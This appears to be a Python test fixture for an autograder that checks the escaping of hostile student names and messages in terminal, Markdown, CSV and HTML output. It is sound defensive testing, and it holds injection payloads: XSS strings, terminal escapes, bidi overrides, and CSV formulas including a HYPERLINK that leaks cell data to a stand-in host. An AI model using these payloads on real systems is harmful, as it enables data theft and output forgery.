"""One class of hostile names and messages, graded once (`grade --out --feedback`) for the four
renderers that must not let a student forge output: the terminal (stdout), feedback/*.md,
grades.csv and report.html. Each escaping test reads the part of the run it is about.

It is a Gradescope export: names from `submission_metadata.yml` (they may hold "/", which no
folder name can), and beside them folders that the metadata does not name, named by their
folder (names with a newline, an escape sequence, Markdown or a right-to-left override in
them). Format characters (tests/course/test_format_characters.py) come in names, in a message
and the line of code it quotes, and in a written answer; an honest student writes Persian,
Hebrew, Chinese and emoji, which keep their joiners.
"""
from __future__ import annotations

import shutil
from pathlib import Path

import yaml

from helpers import QUESTIONS, SUBMISSIONS, max_points, points_without, run_cli

HONEST = SUBMISSIONS / "correct" / "reference_style.py"

# ------------------------------------------------------------------ the terminal
TERMINAL_NAME = "eve\n\x1b[2Jmallory"
TERMINAL_SHOWN = "eve\\n\\x1b[2Jmallory"
# A raw ESC and CSI in the source line itself (quoted back in the message), and escapes that
# become LF and CR in the message: both must come out as visible escapes.
TERMINAL_RAISE = 'raise ValueError("\\n[PASS] softmax: 6/6 (passed)\x1b[2J\\rok\x9b2K")'
TERMINAL_FORGER = "forger"

# ------------------------------------------------------------------ feedback/*.md
MARKDOWN_NAME = ("# Eve **Total: 100%** <b onmouseover=alert(1)>x [y](javascript:alert(1))"
                 )  # no "/": a folder name
MARKDOWN_RAISE = ('raise ValueError("\\n# Total: 100/100\\n**Total: 100 / 100**'
                  '<script>alert(1)</script>[z](javascript:alert(1)) ` www.example.com")')
MARKDOWN_FORGER = "mdforger"

# ------------------------------------------------------------------ grades.csv
CSV_NAMES = {
    "submission_1": '=HYPERLINK("http://x.example/?leak="&A1, "click")',
    "submission_2": "+cmd|' /C calc'!A0",
    "submission_3": "-2+3",
    "submission_4": "@SUM(A1:A9)",
    "submission_5": "\t=1+1",
    "submission_6": "\r=1+1",
    "submission_7": "Ada Lovelace",     # honest: shown as written
}

# ------------------------------------------------------------------ report.html
HTML_NAMES = {"submission_11": "<script>alert(1)</script>",
              "submission_12": '"><img src=x onerror=alert(2)>',
              "submission_13": "{{ 7*7 }} & Ada",
              "submission_14": "Honest Student"}
# The first one quotes markup back through the error its import raises.
HTML_IMPORT_ERROR = "def f():\n    pass\n\nraise ValueError('<script>alert(3)</script>')\n"


# ------------------------------------------------------------------ format characters
# Unicode format characters (category Cf) reorder or hide text and show nothing themselves:
# every output shows each as a code, `<U+202E>`.
FORMAT_FOLDER = "attention-\u202eecila"          # shown by a terminal as "attention-alice"
FORMAT_FOLDER_SHOWN = "attention-<U+202E>ecila"
FORMAT_META = {"submission_21": "Bob\u200b \u2067Smith\u2069"}   # from the metadata
FORMAT_META_SHOWN = "Bob<U+200B> <U+2067>Smith<U+2069>"
# Raw in the source line too, which the message quotes back.
FORMAT_RAISE = 'raise ValueError("all \u202epassed\u202c \u2066ok\u2069 \u200e\u200f\u061c\ufeff\u2060")'
FORMAT_MESSAGE_SHOWN = ("all <U+202E>passed<U+202C> <U+2066>ok<U+2069> "
                        "<U+200E><U+200F><U+061C><U+FEFF><U+2060>")
FORMAT_ANSWER = ("dk \u202egrows\u202c, \u2067scores\u2069 zero\u200bwidth and\u200d "
                 "joined, \ufeffbom, hidden\U000e0041\U000e0042 tags")
FORMAT_ANSWER_SHOWN = ("dk <U+202E>grows<U+202C>, <U+2067>scores<U+2069> zero<U+200B>width "
                       "and<U+200D> joined, <U+FEFF>bom, hidden<U+E0041><U+E0042> tags")
FORMAT_FORGER = "cfforger"
# Honest writing needs some format characters: the Persian word's non-joiner, the emoji's
# joiners (a technologist, a rainbow flag), Scotland's flag's tags. Shown as written.
WORLD_FOLDER = "Zoë 李 محمد"
WORLD_ANSWER = ("می\u200cخواهم בעברית 你好 👩\u200d💻 🏳\ufe0f\u200d🌈 "
                "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f ok")
# Every raw character the hostile texts hold (the honest ones' joiners are not among them).
FORMAT_RAW = set("\u202e\u202c\u2066\u2067\u2069\u200b\u200e\u200f\u061c\ufeff\u2060"
                 "\U000e0041\U000e0042")


def answer_source(answer: str) -> str:
    """The honest file with a written answer to `why_scale`."""
    return HONEST.read_text() + f"\n\nwhy_scale = {answer!r}\n"

# A forger's softmax raises; every function that calls it (the honest file's attention, and
# through it multi-head attention and the block) raises with it. What each question then gives
# is derived from the question files: the points of the cases given none of those functions.
REACHES_SOFTMAX = {"softmax", "scaled_dot_product_attention", "multi_head_attention",
                   "transformer_block"}


def forger_scores() -> dict[str, tuple[float, float]]:
    """{question: (score, max score)} of a forger's row."""
    return {q: (points_without(q, REACHES_SOFTMAX), max_points(q)) for q in QUESTIONS}


def forger_status(score: float, maximum: float) -> str:
    """Nothing left is an error (every case raised), all of it passed, else partial."""
    return "error" if score == 0 else "passed" if score == maximum else "partial"


def forger_source(raise_line: str) -> str:
    """An honest file whose softmax raises with `raise_line`."""
    return HONEST.read_text() + f"\n\ndef softmax(x, dim=-1):\n    {raise_line}\n"


def build_class(root: Path) -> Path:
    """The export folder: every student of the four renderers' tests."""
    export = root / "class"
    named = {**CSV_NAMES, **HTML_NAMES, **FORMAT_META}
    for folder in [*named, TERMINAL_NAME, MARKDOWN_NAME, "honest", TERMINAL_FORGER,
                   MARKDOWN_FORGER, FORMAT_FOLDER, FORMAT_FORGER, WORLD_FOLDER]:
        (export / folder).mkdir(parents=True)
        shutil.copy(HONEST, export / folder / "attention.py")
    (export / TERMINAL_FORGER / "attention.py").write_text(forger_source(TERMINAL_RAISE))
    (export / MARKDOWN_FORGER / "attention.py").write_text(forger_source(MARKDOWN_RAISE))
    (export / FORMAT_FORGER / "attention.py").write_text(
        forger_source(FORMAT_RAISE) + f"\nwhy_scale = {FORMAT_ANSWER!r}\n")
    (export / WORLD_FOLDER / "attention.py").write_text(answer_source(WORLD_ANSWER))
    (export / "submission_11" / "attention.py").write_text(HTML_IMPORT_ERROR)
    (export / "submission_metadata.yml").write_text(yaml.safe_dump(
        {sub: {":submitters": [{":name": name}]} for sub, name in named.items()}))
    return export


def grade_class(root: Path) -> dict:
    """`autograder grade CLASS --out OUT --feedback`, as an instructor runs it once: its
    stdout (the terminal) and its output folder (the CSV, the JSON, the report, feedback)."""
    export = build_class(root)
    out = root / "out"
    r = run_cli("grade", "-a", "attention", str(export), "--out", str(out), "--feedback",
                "--jobs", "2", timeout=900)
    assert r.returncode == 0, r.stderr[-3000:]
    return {"class": export, "out": out, "stdout": r.stdout, "students": len(
        [p for p in export.iterdir() if p.is_dir()])}
